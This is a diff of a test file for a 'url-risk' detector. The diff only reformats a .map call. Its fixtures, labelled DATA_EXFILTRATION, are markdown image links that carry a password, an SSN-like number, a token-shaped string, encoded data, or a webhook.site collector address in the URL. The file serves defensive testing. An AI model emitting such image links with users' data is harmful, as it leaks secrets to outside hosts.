@@ -238,7 +238,9 @@ describe('url-risk', () => {
       'q=The+user+password+is+hunter2',
       'ssn=219-09-9999',
       `k=${'ghp_'}${'a1B2'.repeat(9)}`,
-    ].map((query) => ['DATA_EXFILTRATION', 'image_carries_data', `![i](https://files.example.net/p.png?${query})`] as const),
+    ].map(
+      (query) => ['DATA_EXFILTRATION', 'image_carries_data', `![i](https://files.example.net/p.png?${query})`] as const,
+    ),
     ['DATA_EXFILTRATION', 'image_carries_encoded_data', `![i](https://files.example.net/p.png?v=${'QUJD'.repeat(20)})`],
     ['DATA_EXFILTRATION', 'request_collector', '![i](https://x.webhook.site/p.png?v=1)'],
     ...[
